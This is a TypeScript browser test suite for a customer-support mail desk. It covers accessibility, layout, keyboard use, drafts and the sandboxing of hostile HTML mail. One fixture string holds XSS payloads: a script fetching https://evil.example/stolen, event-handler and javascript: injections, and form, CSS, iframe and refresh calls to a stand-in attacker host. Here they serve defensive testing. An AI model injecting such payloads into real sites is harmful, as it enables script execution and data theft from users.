import { createRequire } from 'node:module';
import { readFileSync } from 'node:fs';
import type { AxeResults, RunOptions } from 'axe-core';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MessageId } from '../../src/core/ids.js';
import { startChromium, type Chromium, type PageOptions } from '../support/chromium.js';
import { mailFrom } from '../support/desk-under-test.js';
import { HOSTILE_HTML } from '../support/hostile-html.js';
import { aMailbox } from '../support/samples.js';
import { eventually } from '../support/eventually.js';
import { available } from '../support/servers.js';
import { DEMO_TOKEN, openWebDesk, type WebDesk } from './web-desk.js';
import type { Letter } from '../../src/web/customer-mailbox.js';

declare global {
  var axe: { run(options: RunOptions): Promise<AxeResults> };
}

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
/** Only colours differ in the dark. */
const COLOUR_RULES = ['color-contrast', 'link-in-text-block'];
const ALL_RULES = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];
/** Whoever asks there was told that a mail was read. */
const EVIL = 'https://evil.example';
const EVE = { address: 'eve@customer.example', name: 'Eve Novak', language: 'en' };
const letter: Letter = { id: 'one', threadId: 't', direction: 'in', from: { name: 'Shop', address: 'shop@desk.example' }, to: EVE, subject: 'Re: Broken cup', text: 'We send a new one.\n\nMarek', quoted: 'The cup is broken.', at: new Date('2026-11-20T12:00:00Z'), files: ['plan.pdf'] };

let desk: WebDesk;
let chromium: Chromium;
let base = '';

beforeAll(async () => {
  if (!available('chromium')) return;
  desk = await openWebDesk({ mailboxes: [aMailbox({ answerWithin: { normal: 30, urgent: 1 } })] }, { list: async () => [EVE], letters: async () => [letter, { ...letter, id: 'two', direction: 'out', at: new Date('2026-11-20T11:00:00Z') }], answer: async () => {}, write: async () => {} });
  const { under } = desk;
  const html = '<h1 onclick="document.title=\'pwned\'">Hi</h1><script>fetch("https://evil.example/stolen")</script><img src="https://evil.example/pixel.gif" onerror="parent.document.title=\'pwned\'"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form"><input name="x"></form><style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/css2"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><a href="javascript:alert(1)">click</a><svg onload="alert(1)"></svg>';
  await under.receive(mailFrom('Eve Novak <eve@customer.example>', 'Broken cup', html, { 'Content-Type': 'text/html; charset=utf-8', 'Message-ID': '<first@customer.example>' }));
  await under.say('anna', 'note', 1, { text: 'For us: **look** at `order 7`.\n\n> quoted\n\n- one\n- two' });
  under.mail.send = async () => ({ response: 'ok', refused: [] });
  await under.say('anna', 'reply', 1, { text: 'We look at it.' });
  under.pass(20_000);
  await under.settle();
  await under.receive(mailFrom('Eve Novak <eve@customer.example>', 'Re: Broken cup', `Thanks, ${'a-very-long-word-without-an-end'.repeat(8)}\n\nOn Friday Shop wrote:\n> We look at it.\n> And more.`, { 'In-Reply-To': '<first@customer.example>', References: '<first@customer.example>' }));
  await under.receive(mailFrom('Jan <jan@customer.example>', 'Wo ist mein Paket', 'Hallo'));
  await under.say('marek', 'claim', 2);
  for (const state of ['failed', 'uncertain', 'bounced'] as const) {
    await under.say('marek', 'reply', 2, { text: `Answer that is ${state}.` });
    const message = (await under.messages(2)).at(-1);
    await under.store.transaction((tx) => tx.messages.update(message?.id as MessageId, { state, problem: { key: state === 'uncertain' ? 'problem.line-broke' : 'problem.mailbox-full', params: { address: 'jan@customer.example' }, detail: '452 4.2.2 Mailbox full' } }));
  }
  await desk.answering('anna', 'slack', 1);
  await under.receive(mailFrom('News <news@list.example>', 'Offers', 'Buy', { 'List-Id': '<news.list.example>', Precedence: 'bulk' }));
  await under.keep(mailFrom('Odd <odd@customer.example>', 'Odd mail', 'Text'));
  const [raw] = await under.store.rawMails.waiting('shop' as never, 10);
  await under.store.transaction((tx) => tx.rawMails.settle(raw?.id as never, { state: 'quarantined', outcome: 'the header is broken' }));
  // One is overdue, the other is due soon.
  await under.say('anna', 'priority', 1, { priority: 'urgent' });
  under.pass(120_000);
  base = await desk.listen();
  chromium = await startChromium();
});
afterAll(async () => {
  await chromium?.close();
  await desk?.close();
});

async function open(options: PageOptions = {}): Promise<Page> {
  const page = await chromium.openPage({ baseURL: base, ...options });
  page.setDefaultTimeout(10_000);
  await page.goto(`/demo/login?token=${DEMO_TOKEN}`);
  return page;
}

const LOOKS = [
  { width: 1280, colorScheme: 'light' },
  { width: 1280, colorScheme: 'dark' },
  { width: 375, colorScheme: 'light', mobile: true },
  { width: 375, colorScheme: 'dark', mobile: true },
] as const;
const PAGES = ['/', '/c/1', '/c/2', '/c/1?template=hello', '/find?q=cup', '/find?q=form%3Acup', '/searches?q=cup', '/bulk?q=from%3Aeve', '/view/closed', '/view/overdue', '/quarantine', '/templates', '/templates/hello', '/templates/hello?c=1', '/templates/hello/edit', '/templates/new', '/settings', '/help', '/channels', '/more', '/customer', '/customer/eve%40customer.example', '/no-such-page', '/login?lang=pl'];

describe.runIf(available('chromium')).each(LOOKS)('at $width px, $colorScheme', (look) => {
  it('every page passes axe and scrolls only up and down', { timeout: 120_000 }, async () => {
    const page = await open(look);
    const wrong: string[] = [];
    page.on('console', (message) => { if (message.type() === 'error' && /Content Security Policy/.test(message.text())) wrong.push(message.text().slice(0, 200)); });
    page.on('pageerror', (error) => wrong.push(error.message));
    for (const path of PAGES) {
      await page.goto(path);
      for await (const opened of opening(page, path)) {
        // Our policy lets no foreign script in; axe is put in by the browser's own tools.
        await page.evaluate(AXE);
        const { violations } = await page.evaluate((runOnly) => globalThis.axe.run({ resultTypes: ['violations'], runOnly }), look.colorScheme === 'dark' ? COLOUR_RULES : ALL_RULES);
        wrong.push(...violations.map(({ id, nodes }) => `${path} ${opened}: ${id}: ${nodes.slice(0, 2).map(({ html, failureSummary }) => `${html.slice(0, 160)} ${failureSummary?.slice(0, 200)}`).join(' | ')}`));
        const over = await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth');
        if (Number(over) > 0) wrong.push(`${path} ${opened}: ${String(over)} px too wide`);
      }
    }
    expect(wrong).toEqual([]);
    await page.context().close();
  });
});

/** The page as it comes, and with what opens on it. */
async function* opening(page: Page, path: string): AsyncGenerator<string> {
  yield 'as it comes';
  if (!path.startsWith('/c/') || path.includes('?')) return;
  await page.click('label[for="mode-answer"]');
  await page.fill('#text', 'Hello Eve');
  yield 'answering';
  await page.evaluate("for (const details of document.querySelectorAll('details:not(.menu)')) details.open = true");
  yield 'unfolded';
  for (const menu of ['#assign-menu', '#more-menu']) {
    await page.click(`${menu} > summary`);
    yield menu;
    await page.keyboard.press('Escape');
  }
}

describe.runIf(available('chromium'))('a hostile mail', () => {
  it('runs nothing, loads nothing and asks nobody, also when its pictures are wanted', async () => {
    const page = await open();
    const asked: string[] = [];
    page.on('request', (request) => { if (!request.url().startsWith(base)) asked.push(request.url()); });
    page.on('dialog', (dialog) => { asked.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
    await page.goto('/c/1');
    await page.evaluate("for (const details of document.querySelectorAll('details:not(.menu)')) details.open = true");
    const frame = page.frameLocator('.look iframe').first();
    await frame.getByText('Hi').click();
    await page.waitForTimeout(500);
    expect(asked).toEqual([]);
    expect(await page.title()).toContain('Broken cup');

    await page.getByRole('link', { name: 'Load images' }).first().click();
    await page.waitForTimeout(500);
    expect(asked.every((url) => url === 'https://evil.example/pixel.gif')).toBe(true);
    expect(await page.title()).toContain('Broken cup');
    await page.context().close();
  });
});

describe.runIf(available('chromium'))('hostile mails of all kinds', () => {
  const mark = (index: number): string => `hostile-${index}.`;
  let hostile: WebDesk;
  let url = '';
  beforeAll(async () => {
    hostile = await openWebDesk();
    const headers = (index: number): Record<string, string> => ({ 'Content-Type': 'text/html; charset=utf-8', 'Message-ID': `<h${index}@customer.example>`, ...(index > 0 && { 'In-Reply-To': '<h0@customer.example>' }) });
    for (const [index, html] of HOSTILE_HTML.entries()) await hostile.under.receive(mailFrom('Eve Novak <eve@customer.example>', 'Many ways in', `<p>${mark(index)}</p>${html.replaceAll('https://x', `${EVIL}/${index}`)}`, headers(index)));
    url = await hostile.listen();
  });
  afterAll(() => hostile?.close());

  it('run nothing and ask nobody; their pictures come when somebody wants them', { timeout: 90_000 }, async () => {
    const page = await chromium.openPage({ baseURL: url });
    const done: string[] = [];
    page.on('request', (request) => { if (!request.url().startsWith(url) && !request.url().startsWith('data:')) done.push(request.url()); });
    page.on('dialog', (dialog) => { done.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
    await page.goto(`/demo/login?token=${DEMO_TOKEN}`);
    await page.goto('/c/1');
    const look = async (): Promise<void> => {
      await page.evaluate("for (const details of document.querySelectorAll('details:not(.menu)')) details.open = true");
      const frames = page.locator('.look iframe');
      expect(await frames.count()).toBe(HOSTILE_HTML.length);
      for (const [index] of HOSTILE_HTML.entries()) {
        await frames.nth(index).scrollIntoViewIfNeeded();
        await page.frameLocator('.look iframe').nth(index).getByText(mark(index), { exact: true }).waitFor();
      }
    };
    await look();
    expect(done).toEqual([]);
    const wanted = page.getByRole('link', { name: 'Load images' });
    const pictures = HOSTILE_HTML.flatMap((html, index) => (/<img src="https:/.test(html) ? [`${EVIL}/${index}/p.gif`] : []));
    expect(pictures.length).toBeGreaterThan(0);
    for (const link of await wanted.all()) await link.click();
    await look();
    await expect.poll(() => done.length).toBeGreaterThanOrEqual(pictures.length);
    expect([...new Set(done)].sort()).toEqual(pictures.sort());
    await page.context().close();
  });
});

describe.runIf(available('chromium'))('the page of an agent', () => {
  it('keeps what is being written through a reload, each box by itself', async () => {
    const page = await open();
    await page.goto('/c/1');
    await page.click('label[for="mode-answer"]');
    await page.fill('#text', 'An answer I have begun');
    await page.click('label[for="mode-note"]');
    await page.fill('#note-text', 'A note I have begun');
    await page.reload();
    expect(await page.inputValue('#text')).toBe('An answer I have begun');
    expect(await page.inputValue('#note-text')).toBe('A note I have begun');
    await page.click('#save-note');
    await page.locator('.note', { hasText: 'A note I have begun' }).waitFor();
    await eventually(async () => expect(await page.inputValue('#note-text')).toBe(''));
    expect(await page.inputValue('#text')).toBe('An answer I have begun');
    await page.reload();
    expect(await page.inputValue('#note-text')).toBe('');
    await page.context().close();
  });

  it('learns of a new mail while an answer is being written, and switches sending off until it is read', async () => {
    const page = await open();
    await page.goto('/c/1');
    await page.click('label[for="mode-answer"]');
    await page.fill('#text', 'Nearly done');
    await desk.under.receive(mailFrom('Eve Novak <eve@customer.example>', 'Re: Broken cup', 'PS: the saucer too.', { 'In-Reply-To': '<first@customer.example>', References: '<first@customer.example>' }));
    await page.getByText('Held: Eve Novak wrote at').waitFor();
    await page.getByText('PS: the saucer too.').first().waitFor();
    expect(await page.getAttribute('#send-answer', 'aria-disabled')).toBe('true');
    expect(await page.inputValue('#text')).toBe('Nearly done');
    // Writing goes on where it was.
    expect(await page.evaluate('document.activeElement.id')).toBe('text');
    await page.getByRole('link', { name: 'Read it' }).click();
    await eventually(async () => expect(await page.evaluate('document.activeElement.id')).toBe('new'));
    await page.click('#send-anyway');
    await page.locator('#undo .undo').first().waitFor();
    await eventually(async () => expect(await page.inputValue('#text')).toBe(''));
    await page.click('#undo button:has-text("Edit")');
    await eventually(async () => expect(await page.inputValue('#text')).toBe('Nearly done'));
    await page.context().close();
  });

  it('tells who is answering, live', async () => {
    const page = await open();
    await page.goto('/c/2');
    await desk.answering('anna', 'discord', 2);
    await page.locator('#presence', { hasText: 'Anna is answering in Discord' }).waitFor();
    await page.context().close();
  });

  it('leaves a menu closed that was closed after news had come', async () => {
    const page = await open();
    await page.goto('/c/1');
    await page.click('label[for="mode-answer"]');
    await page.click('#template-menu > summary');
    await desk.answering('anna', 'discord', 1);
    await page.locator('#presence', { hasText: 'Anna is answering in Discord' }).waitFor();
    expect(await page.getAttribute('#template-menu', 'open')).not.toBeNull();
    await page.locator('.tpl').first().click();
    await eventually(async () => expect(await page.inputValue('#text')).not.toBe(''));
    await page.click('label[for="mode-note"]');
    await page.fill('#note-text', 'A note in between');
    await page.click('#save-note');
    await page.locator('.note', { hasText: 'A note in between' }).waitFor();
    await page.click('label[for="mode-answer"]');
    expect(await page.getAttribute('#template-menu', 'open')).toBeNull();
    await page.context().close();
  });

  it('is reached by keyboard: search, list, conversation, sending', async () => {
    const page = await open();
    await page.goto('/');
    await page.keyboard.press('Control+k');
    expect(await page.evaluate('document.activeElement.id')).toBe('q');
    await page.focus('.list__scroll');
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await page.locator('#composer').waitFor();
    expect(page.url()).toContain('/c/');
    await eventually(async () => expect(await page.evaluate('document.activeElement.id')).toBe('subject'));
    await page.focus('#note-text');
    await page.keyboard.type('Written by hand');
    await page.keyboard.press('Control+Enter');
    await page.locator('.note', { hasText: 'Written by hand' }).waitFor();
    await page.goBack();
    await page.locator('.conv--none').waitFor();
    await page.context().close();
  });

  it('works without a script', async () => {
    const page = await open({ javaScript: false });
    await page.goto('/c/1');
    await page.click('label[for="mode-note"]');
    await page.fill('#note-text', 'No script here');
    await page.click('#save-note');
    await page.locator('.note', { hasText: 'No script here' }).waitFor();
    await page.context().close();
  });

  it('says that the session is over, and keeps the text', async () => {
    const page = await open();
    await page.goto('/c/2');
    await page.click('label[for="mode-note"]');
    await page.fill('#note-text', 'Do not lose me');
    await page.context().clearCookies();
    await page.click('#save-note');
    await page.getByText('You were logged out.').waitFor();
    expect(await page.inputValue('#note-text')).toBe('Do not lose me');
    await page.context().close();
  });
});

describe.runIf(available('chromium'))('on a phone', () => {
  it('stays with the answer that somebody turned to while their note was being saved', async () => {
    const page = await open({ width: 375, height: 812, mobile: true });
    await page.goto('/c/1');
    let arrive = (): void => {};
    const arrived = new Promise<void>((resolve) => { arrive = resolve; });
    await page.route('**/c/1/do/**', async (route) => {
      const response = await route.fetch();
      await arrived;
      await route.fulfill({ response });
    });
    await page.locator('label[for="mode-note"]').click();
    await page.fill('#note-text', 'A note that takes its time');
    await page.click('#save-note');
    await page.locator('.note', { hasText: 'A note that takes its time' }).waitFor();
    await page.locator('label[for="mode-answer"]').click();
    await page.fill('#text', 'Already writing');
    arrive();
    await eventually(async () => expect(await page.inputValue('#note-text')).toBe(''));
    await page.locator('#template-menu > summary').click();
    await page.locator('.tpl').first().waitFor();
    expect(await page.inputValue('#text')).toBe('Already writing');
    await page.context().close();
  });

  it('the list and the conversation are pages of their own, and the composer is two buttons until it is touched', async () => {
    const page = await open({ width: 375, height: 812, mobile: true });
    await page.goto('/');
    expect(await page.locator('.conv').isVisible()).toBe(false);
    await page.tap('#card-1');
    await page.locator('#composer').waitFor();
    expect(await page.locator('.list').isVisible()).toBe(false);
    expect(await page.locator('#text').isVisible()).toBe(false);
    await page.tap('label[for="mode-answer"]');
    await page.locator('#text').waitFor();
    const small = await page.evaluate("[...document.querySelectorAll('.conv a.btn, .conv button, .conv summary.btn, .conv label.btn')].filter((e) => e.offsetParent && e.getBoundingClientRect().height < 43).map((e) => e.outerHTML.slice(0, 90))");
    expect(small).toEqual([]);
    await page.locator('.conv__back').tap();
    await page.locator('#card-1').waitFor();
    await page.context().close();
  });
});
